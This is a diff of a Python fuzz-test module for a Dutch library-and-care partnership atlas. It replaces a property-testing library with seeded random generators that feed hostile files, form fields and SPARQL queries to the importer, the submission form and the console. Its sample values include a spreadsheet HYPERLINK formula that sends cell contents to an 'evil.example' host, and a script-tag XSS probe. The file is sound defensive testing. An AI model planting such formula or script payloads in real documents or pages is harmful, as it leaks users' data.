@@ -5,23 +5,33 @@ in an unhandled exception; a refused import or submission leaves the store exact
 through the real reader and the row rules on real files (what ``validate`` does, without the SHACL pass), and
 what those rules accept is turned into store terms, which is where a value the store cannot write would fail;
 a sample goes through the whole import or submission into an embedded store. The counts are printed at the end.
+
+The inputs come from a seeded generator, not from a property-testing library: drawing ten thousand structured
+inputs through one took twice as long as checking them. Each input has its own seed, which a failure names;
+``random.Random(seed)`` draws that input again. ``PASSENDWERK_HOSTILE_SEED`` draws a different ten thousand.
 """
 
 from __future__ import annotations
 
 import csv
+import math
+import os
+import random
 import re
 import shutil
 import string
+import struct
 import tempfile
 import warnings
 from collections import Counter
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import contextmanager
+from datetime import date
+from decimal import Decimal
 from pathlib import Path
+from typing import TypeVar
 
 import pytest
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
 
 from graph.intake.importer import import_path, validation_context
 from graph.intake.mapping import records_graphs
@@ -46,23 +56,62 @@ NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
 COUNTS: Counter[str] = Counter()
 RUNS = {"import_checked": 5_000, "import_written": 30, "form_checked": 4_000, "form_submitted": 30, "console": 1_000}
 
+T = TypeVar("T")
+Draw = Callable[[random.Random], T]
 
-def runs(name: str) -> settings:
-    return settings(
-        max_examples=RUNS[name],
-        deadline=None,
-        database=None,
-        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
-    )
+
+def examples(run: str) -> Iterator[tuple[str, random.Random]]:
+    """The inputs of one run, each with its own seed."""
+    base = os.environ.get("PASSENDWERK_HOSTILE_SEED", "passendwerk")
+    for index in range(RUNS[run]):
+        seed = f"{base}:{run}:{index}"
+        yield seed, random.Random(seed)
+
+
+@contextmanager
+def drawn_from(seed: str, value: object) -> Iterator[None]:
+    """A failure names the seed that draws its input again, and the start of the input."""
+    try:
+        yield
+    except BaseException as error:
+        if isinstance(error, (KeyboardInterrupt, pytest.skip.Exception)):
+            raise
+        raise AssertionError(f"input {seed!r} ({error!r}): {value!r:.1500}") from error
+
+
+# --- drawing ------------------------------------------------------------------------------------------------------
+
+
+def one_of(*choices: Draw[T]) -> Draw[T]:
+    return lambda rng: rng.choice(choices)(rng)
+
+
+def sampled(values: Sequence[T]) -> Draw[T]:
+    chosen = list(values)
+    return lambda rng: rng.choice(chosen)
+
+
+def text(alphabet: Draw[str], max_size: int, min_size: int = 0) -> Draw[str]:
+    return lambda rng: "".join(alphabet(rng) for _ in range(rng.randint(min_size, max_size)))
 
 
 # --- hostile values -----------------------------------------------------------------------------------------------
 
-EVERY_CHARACTER = st.characters(exclude_categories=())  # control characters and lone surrogates included
-CONTROLS = st.text(
-    st.characters(max_codepoint=0x1F) | st.sampled_from("\x7f\u202e\u2066\u200b\u200f\ufeff\ufffe\ud800")
+# Every code point can be drawn, control characters and lone surrogates included; each block is as likely as the
+# next, so that ASCII does not crowd out the rest.
+BLOCKS = [(0, 0x20), (0x20, 0x7F), (0x7F, 0xA0), (0xA0, 0x800), (0x800, 0xD800), (0xD800, 0xE000)]
+BLOCKS += [(0xE000, 0x10000), (0x10000, 0x110000)]
+
+
+def every_character(rng: random.Random) -> str:
+    low, high = rng.choice(BLOCKS)
+    return chr(rng.randrange(low, high))
+
+
+CONTROLS = text(
+    one_of(lambda rng: chr(rng.randrange(0x20)), sampled("\x7f\u202e\u2066\u200b\u200f\ufeff\ufffe\ud800")), 10
 )
-FORMULAS = st.sampled_from(
+FORMULAS = sampled(
     [
         "=1+1",
         '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -75,25 +124,47 @@ FORMULAS = st.sampled_from(
         "'s-Hertogenbosch",
     ]
 )
-CSV_BREAKERS = st.sampled_from(['"', '""', '","', "\r", "\n", "\r\n", ",", ";", "\ufeff", '"\n"', 'a"b', "\x00", "\\"])
-ADDRESSES = st.sampled_from(GOOD_ADDRESSES + BAD_ADDRESSES) | st.builds(
-    "https://a.example/{}".format, st.text(EVERY_CHARACTER, max_size=12)
+CSV_BREAKERS = sampled(['"', '""', '","', "\r", "\n", "\r\n", ",", ";", "\ufeff", '"\n"', 'a"b', "\x00", "\\"])
+ADDRESSES = one_of(
+    sampled(GOOD_ADDRESSES + BAD_ADDRESSES), lambda rng: "https://a.example/" + text(every_character, 12)(rng)
 )
-DATES = st.one_of(
-    st.dates().map(str),
-    st.from_regex(r"\A[0-9]{1,5}(-[0-9]{1,3}){0,3}\Z"),
-    st.sampled_from(["2025-02-30", "0000", "2025-13", "1899", "2101-01-01", "2025-1-1", "２０２５", "٢٠٢٥-٠١"]),
+
+
+def digits(rng: random.Random, low: int, high: int) -> str:
+    return "".join(rng.choice(string.digits) for _ in range(rng.randint(low, high)))
+
+
+DATES = one_of(
+    lambda rng: date.fromordinal(rng.randint(1, date.max.toordinal())).isoformat(),
+    lambda rng: digits(rng, 1, 5) + "".join("-" + digits(rng, 1, 3) for _ in range(rng.randint(0, 3))),
+    sampled(["2025-02-30", "0000", "2025-13", "1899", "2101-01-01", "2025-1-1", "２０２５", "٢٠٢٥-٠١"]),
 )
-NUMBERS = st.one_of(
-    st.floats().map(repr),
-    st.integers().map(str),
-    st.decimals(allow_nan=True).map(str),
-    st.sampled_from(["nan", "inf", "-inf", "1e309", "52,1", "٥٢.١", "1_000", "0x10", "+", ".", " 52.1 ", "4.9e-324"]),
+
+
+def any_float(rng: random.Random) -> float:
+    """Any double: its 64 bits at random (NaNs and subnormals included), a special one, or an ordinary one."""
+    pick = rng.randrange(3)
+    if pick == 0:
+        return float(struct.unpack("<d", rng.getrandbits(64).to_bytes(8, "little"))[0])
+    if pick == 1:
+        return rng.choice([0.0, -0.0, math.inf, -math.inf, math.nan, 5e-324, 1.7976931348623157e308, 52.1, 4.9])
+    return rng.uniform(-1e6, 1e6)
+
+
+NUMBERS = one_of(
+    lambda rng: repr(any_float(rng)),
+    lambda rng: str(rng.randint(-(2**70), 2**70) if rng.random() < 0.5 else rng.randint(-300, 300)),
+    lambda rng: str(
+        rng.choice([Decimal("NaN"), Decimal("sNaN"), Decimal("-Infinity")])
+        if rng.random() < 0.2
+        else Decimal(rng.randint(-(10**12), 10**12)).scaleb(rng.randint(-30, 30))
+    ),
+    sampled(["nan", "inf", "-inf", "1e309", "52,1", "٥٢.١", "1_000", "0x10", "+", ".", " 52.1 ", "4.9e-324"]),
 )
-HUGE = st.sampled_from(["x" * 5_000, "é" * 70_000, "\U0001d54f" * 40_000, "a,b\n" * 10_000, '"' * 9_999])
-IDS = st.sampled_from(["lib-a", "a-woerden", "x-woerden", "c1", "", "-x", "a" * 101, "a b", "a/b", "ä"])
-ATOMS = st.one_of(
-    st.text(EVERY_CHARACTER, max_size=30),
+HUGE = sampled(["x" * 5_000, "é" * 70_000, "\U0001d54f" * 40_000, "a,b\n" * 10_000, '"' * 9_999])
+IDS = sampled(["lib-a", "a-woerden", "x-woerden", "c1", "", "-x", "a" * 101, "a b", "a/b", "ä"])
+ATOMS = one_of(
+    text(every_character, 30),
     CONTROLS,
     FORMULAS,
     CSV_BREAKERS,
@@ -101,9 +172,9 @@ ATOMS = st.one_of(
     DATES,
     NUMBERS,
     IDS,
-    st.sampled_from(["<script>alert(1)</script>", "yes", "NEE", "werk;;ontmoeting", "GM0632", "3441 bg", "a@b.nl"]),
+    sampled(["<script>alert(1)</script>", "yes", "NEE", "werk;;ontmoeting", "GM0632", "3441 bg", "a@b.nl"]),
 )
-HOSTILE = st.one_of(ATOMS, HUGE, st.lists(ATOMS, min_size=2, max_size=4).map("".join))
+HOSTILE = one_of(ATOMS, HUGE, lambda rng: "".join(ATOMS(rng) for _ in range(rng.randint(2, 4))))
 
 
 def tiny_rows() -> dict[str, list[dict[str, str]]]:
@@ -117,48 +188,44 @@ def tiny_rows() -> dict[str, list[dict[str, str]]]:
 TINY_ROWS = tiny_rows()
 
 
-@st.composite
-def input_files(draw: st.DrawFn, mild: bool = False) -> tuple[str, dict[str, list[list[str]]], bytes]:
+def input_files(rng: random.Random, mild: bool = False) -> tuple[str, dict[str, list[list[str]]], bytes]:
     """A kind of file ("csv", "xlsx", "raw" or "ttl"), the tiny tables with hostile cells, headers and rows, or
-    raw bytes; ``mild``: the three CSV files, whole, with at most one hostile cell (so that some are imported)."""
-    kind = "csv" if mild else draw(st.sampled_from(["csv"] * 17 + ["raw", "ttl", "xlsx"]))
+    raw bytes; ``mild``: the three CSV files, whole, with at most one hostile cell in all (so that about half are
+    imported)."""
+    kind = "csv" if mild else rng.choice(["csv"] * 17 + ["raw", "ttl", "xlsx"])
     if kind == "raw":
-        return (
-            kind,
-            {},
-            draw(
-                st.binary(max_size=300)
-                | st.lists(EVERY_CHARACTER | CSV_BREAKERS, max_size=100)
-                .map("".join)
-                .map(lambda text: text.encode("utf-8", "surrogatepass"))
-            ),
-        )
+        if rng.random() < 0.5:
+            return kind, {}, rng.randbytes(rng.randint(0, 300))
+        characters = text(one_of(every_character, CSV_BREAKERS), 100)(rng)
+        return kind, {}, characters.encode("utf-8", "surrogatepass")
     if kind == "ttl":
-        value = draw(HOSTILE).replace("\\", "\\\\").replace('"', '\\"')
-        text = (
+        value = HOSTILE(rng).replace("\\", "\\\\").replace('"', '\\"')
+        turtle = (
             "@prefix org: <http://www.w3.org/ns/org#> . @prefix schema: <https://schema.org/> .\n"
             "@prefix dct: <http://purl.org/dc/terms/> .\n"
             f'<https://w3id.org/passendwerk/id/organisation/h> a org:Organization ; dct:identifier "{value}" ;\n'
-            f'  schema:name "{value}" ; schema:url <{draw(ADDRESSES)}> ;\n'
+            f'  schema:name "{value}" ; schema:url <{ADDRESSES(rng)}> ;\n'
             "  org:classification <https://w3id.org/passendwerk/id/kind/care> .\n"
         )
-        return kind, {}, text.encode("utf-8", "surrogatepass")
+        return kind, {}, turtle.encode("utf-8", "surrogatepass")
     tables: dict[str, list[list[str]]] = {}
     for name, columns in TABLE_COLUMNS.items():
-        if not mild and draw(st.integers(0, 9)) == 0:
+        if not mild and rng.randint(0, 9) == 0:
             continue  # the file is missing
         header = list(columns)
-        if not mild and draw(st.integers(0, 5)) == 0:
-            header = draw(st.permutations(header))[: draw(st.integers(0, len(header)))] + draw(
-                st.lists(HOSTILE | st.sampled_from(["id", "ID ", "name"]), max_size=2)
-            )
+        if not mild and rng.randint(0, 5) == 0:
+            header = rng.sample(header, len(header))[: rng.randint(0, len(header))]
+            header += [one_of(HOSTILE, sampled(["id", "ID ", "name"]))(rng) for _ in range(rng.randint(0, 2))]
         rows = [[row.get(column, "") for column in header] for row in TINY_ROWS[name]]
-        rows = rows[: draw(st.integers(0, len(rows)))] if not mild and draw(st.integers(0, 4)) == 0 else rows
-        for _ in range(draw(st.integers(0, 1 if mild else 3))):
+        rows = rows[: rng.randint(0, len(rows))] if not mild and rng.randint(0, 4) == 0 else rows
+        for _ in range(0 if mild else rng.randint(0, 3)):
             if rows and header:
-                row, column = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, len(header) - 1))
-                rows[row][column] = draw(HOSTILE)
+                row, column = rng.randrange(len(rows)), rng.randrange(len(header))
+                rows[row][column] = HOSTILE(rng)
         tables[name] = [header, *rows]
+    if mild and rng.random() < 0.5:
+        grid = tables[rng.choice(sorted(tables))]
+        grid[rng.randint(1, len(grid) - 1)][rng.randrange(len(grid[0]))] = HOSTILE(rng)
     return kind, tables, b""
 
 
@@ -263,12 +330,14 @@ def context(atlas: Atlas) -> ValidationContext:
 # --- the import ---------------------------------------------------------------------------------------------------
 
 
-@runs("import_checked")
-@given(drawn=input_files())
-def test_hostile_files_are_checked_or_refused_clearly(
-    context: ValidationContext, scratch: Path, drawn: tuple[str, dict[str, list[list[str]]], bytes]
-) -> None:
-    path = write_files(scratch / "checked", *drawn)
+def test_hostile_files_are_checked_or_refused_clearly(context: ValidationContext, scratch: Path) -> None:
+    for seed, rng in examples("import_checked"):
+        drawn = input_files(rng)
+        with drawn_from(seed, drawn):
+            file_checked_or_refused(context, write_files(scratch / "checked", *drawn))
+
+
+def file_checked_or_refused(context: ValidationContext, path: Path) -> None:
     COUNTS["import_checked"] += 1
     try:
         tables = read_input(path)
@@ -285,12 +354,14 @@ def test_hostile_files_are_checked_or_refused_clearly(
         COUNTS["import_checked:accepted"] += 1
 
 
-@runs("import_written")
-@given(drawn=input_files(mild=True))
-def test_hostile_imports_write_all_or_nothing(
-    atlas: Atlas, scratch: Path, drawn: tuple[str, dict[str, list[list[str]]], bytes]
-) -> None:
-    path = write_files(scratch / "written", *drawn)
+def test_hostile_imports_write_all_or_nothing(atlas: Atlas, scratch: Path) -> None:
+    for seed, rng in examples("import_written"):
+        drawn = input_files(rng, mild=True)
+        with drawn_from(seed, drawn):
+            imported_whole_or_not_at_all(atlas, write_files(scratch / "written", *drawn))
+
+
+def imported_whole_or_not_at_all(atlas: Atlas, path: Path) -> None:
     COUNTS["import_written"] += 1
     before = atlas.store.dump(private=EVERYTHING)
     try:
@@ -310,7 +381,7 @@ def test_hostile_imports_write_all_or_nothing(
 
 # --- the partner form ---------------------------------------------------------------------------------------------
 
-COORDINATES = st.one_of(st.none(), st.floats(), st.floats(50.8, 53.5))
+COORDINATES = one_of(lambda rng: None, any_float, lambda rng: rng.uniform(50.8, 53.5))
 BASE_FORM: dict[str, object] = {
     "library_site_id": "a-utrecht",
     "care_site_id": "w-utrecht",
@@ -328,24 +399,25 @@ BASE_FORM: dict[str, object] = {
 }
 
 
-@st.composite
-def new_organisations(draw: st.DrawFn) -> NewOrganisation:
+def new_organisation(rng: random.Random) -> NewOrganisation:
     """A new library that is valid but for one or two hostile fields."""
     fields: dict[str, object] = {"name": "Bibliotheek Nieuw", "town": "Woerden", "lat": 52.086, "lon": 4.884}
-    choices = {"name": HOSTILE, "town": HOSTILE, "lat": COORDINATES, "lon": COORDINATES}
-    choices |= {"address": HOSTILE, "postcode": HOSTILE | st.just("3441 BG"), "website": ADDRESSES}
-    for name in draw(st.lists(st.sampled_from(sorted(choices)), min_size=1, max_size=2, unique=True)):
-        fields[name] = draw(choices[name])
+    choices: dict[str, Draw[object]] = {"name": HOSTILE, "town": HOSTILE, "lat": COORDINATES, "lon": COORDINATES}
+    choices |= {"address": HOSTILE, "postcode": one_of(HOSTILE, sampled(["3441 BG"])), "website": ADDRESSES}
+    for name in rng.sample(sorted(choices), rng.randint(1, 2)):
+        fields[name] = choices[name](rng)
     return NewOrganisation(**fields)  # type: ignore[arg-type]
 
 
-FORM_FIELDS = {
-    "library_site_id": IDS | HOSTILE,
-    "new_library": new_organisations(),
-    "care_site_id": IDS | HOSTILE,
-    "activities": st.lists(st.sampled_from(["werk", "ontmoeting"]) | HOSTILE, max_size=3).map(tuple),
+FORM_FIELDS: dict[str, Draw[object]] = {
+    "library_site_id": one_of(IDS, HOSTILE),
+    "new_library": new_organisation,
+    "care_site_id": one_of(IDS, HOSTILE),
+    "activities": lambda rng: tuple(
+        one_of(sampled(["werk", "ontmoeting"]), HOSTILE)(rng) for _ in range(rng.randint(0, 3))
+    ),
     "activity_other": HOSTILE,
-    "status": st.sampled_from(["active", "ended", "exploring", ""]) | HOSTILE,
+    "status": one_of(sampled(["active", "ended", "exploring", ""]), HOSTILE),
     "start_date": DATES,
     "participants": NUMBERS,
     "description": HOSTILE,
@@ -354,50 +426,50 @@ FORM_FIELDS = {
     "contact_role": HOSTILE,
     "contact_email": HOSTILE,
     "contact_phone": HOSTILE,
-    "contact_consent": st.booleans(),
+    "contact_consent": lambda rng: rng.random() < 0.5,
     "submitter_email": HOSTILE,
 }
 
 
-@st.composite
-def forms(draw: st.DrawFn) -> SubmissionForm:
+def hostile_form(rng: random.Random) -> SubmissionForm:
     """A form that is valid but for one to three hostile fields, so that each reaches every later check."""
     values = dict(BASE_FORM)
-    for name in draw(st.lists(st.sampled_from(sorted(FORM_FIELDS)), min_size=1, max_size=3, unique=True)):
-        values[name] = draw(FORM_FIELDS[name])
+    for name in rng.sample(sorted(FORM_FIELDS), rng.randint(1, 3)):
+        values[name] = FORM_FIELDS[name](rng)
     return SubmissionForm(**values)  # type: ignore[arg-type]
 
 
-@runs("form_checked")
-@given(form=forms())
-def test_hostile_forms_are_checked_or_refused_clearly(context: ValidationContext, form: SubmissionForm) -> None:
-    COUNTS["form_checked"] += 1
-    tables = form_tables(form, "PW-HOSTILE1")
-    records, problems = validate_tables(tables, context)
-    assert_clear(problems)
-    if problems:
-        COUNTS["form_checked:refused"] += 1
-    else:
-        assert_writable(records)
-        COUNTS["form_checked:accepted"] += 1
+def test_hostile_forms_are_checked_or_refused_clearly(context: ValidationContext) -> None:
+    for seed, rng in examples("form_checked"):
+        form = hostile_form(rng)
+        with drawn_from(seed, form):
+            COUNTS["form_checked"] += 1
+            records, problems = validate_tables(form_tables(form, "PW-HOSTILE1"), context)
+            assert_clear(problems)
+            if problems:
+                COUNTS["form_checked:refused"] += 1
+            else:
+                assert_writable(records)
+                COUNTS["form_checked:accepted"] += 1
 
 
-@runs("form_submitted")
-@given(form=forms())
-def test_hostile_submissions_are_stored_whole_or_not_at_all(atlas: Atlas, form: SubmissionForm) -> None:
-    COUNTS["form_submitted"] += 1
-    before, public = len(submissions(atlas, viewer=COMMAND_LINE)), atlas.store.dump()
-    result = submit(atlas, form)
-    assert len(submissions(atlas, viewer=COMMAND_LINE)) == before + (1 if result.ok else 0)
-    assert atlas.store.dump() == public  # nothing pending is ever public
-    assert_clear(result.problems)
-    COUNTS["form_submitted:" + ("stored" if result.ok else "refused")] += 1
+def test_hostile_submissions_are_stored_whole_or_not_at_all(atlas: Atlas) -> None:
+    for seed, rng in examples("form_submitted"):
+        form = hostile_form(rng)
+        with drawn_from(seed, form):
+            COUNTS["form_submitted"] += 1
+            before, public = len(submissions(atlas, viewer=COMMAND_LINE)), atlas.store.dump()
+            result = submit(atlas, form)
+            assert len(submissions(atlas, viewer=COMMAND_LINE)) == before + (1 if result.ok else 0)
+            assert atlas.store.dump() == public  # nothing pending is ever public
+            assert_clear(result.problems)
+            COUNTS["form_submitted:" + ("stored" if result.ok else "refused")] += 1
 
 
 # --- the console --------------------------------------------------------------------------------------------------
 
 PRIVATE = "<https://w3id.org/passendwerk/graph/private/contacts>"
-FRAGMENTS = st.sampled_from(
+FRAGMENTS = sampled(
     [
         "SELECT",
         "ASK",
@@ -448,26 +520,27 @@ FRAGMENTS = st.sampled_from(
         "SELECT ?n WHERE { ?o schema:name ?n }",
     ]
 )
-QUERIES = st.one_of(
-    st.lists(FRAGMENTS | ATOMS, max_size=20).map(" ".join),
-    st.builds("SELECT ?s WHERE {{ ?s ?p ?o FILTER(STR(?o) = {}) }} LIMIT 5".format, ATOMS.map(repr)),
-    st.builds("ASK {{ ?s schema:name {} }}".format, ATOMS.map(lambda value: '"' + value.replace('"', "") + '"')),
-    st.text(EVERY_CHARACTER | st.sampled_from(string.punctuation), max_size=60),
+QUERIES = one_of(
+    lambda rng: " ".join(one_of(FRAGMENTS, ATOMS)(rng) for _ in range(rng.randint(0, 20))),
+    lambda rng: f"SELECT ?s WHERE {{ ?s ?p ?o FILTER(STR(?o) = {ATOMS(rng)!r}) }} LIMIT 5",
+    lambda rng: 'ASK { ?s schema:name "' + ATOMS(rng).replace('"', "") + '" }',
+    text(one_of(every_character, sampled(string.punctuation)), 60),
 )
 
 
-@runs("console")
-@given(query=QUERIES)
-def test_hostile_console_questions_get_an_answer_or_a_clear_refusal(atlas: Atlas, query: str) -> None:
-    COUNTS["console"] += 1
-    try:
-        result = run_console(atlas.store, query)
-    except ConsoleError as refused:
-        assert refused.message_nl and refused.message_en
-        COUNTS["console:refused"] += 1
-        return
-    assert result.form in ("SELECT", "ASK", "CONSTRUCT", "DESCRIBE")
-    COUNTS["console:answered"] += 1
+def test_hostile_console_questions_get_an_answer_or_a_clear_refusal(atlas: Atlas) -> None:
+    for seed, rng in examples("console"):
+        query = QUERIES(rng)
+        with drawn_from(seed, query):
+            COUNTS["console"] += 1
+            try:
+                result = run_console(atlas.store, query)
+            except ConsoleError as refused:
+                assert refused.message_nl and refused.message_en
+                COUNTS["console:refused"] += 1
+                continue
+            assert result.form in ("SELECT", "ASK", "CONSTRUCT", "DESCRIBE")
+            COUNTS["console:answered"] += 1
 
 
 def test_over_ten_thousand_hostile_inputs_were_fed() -> None:
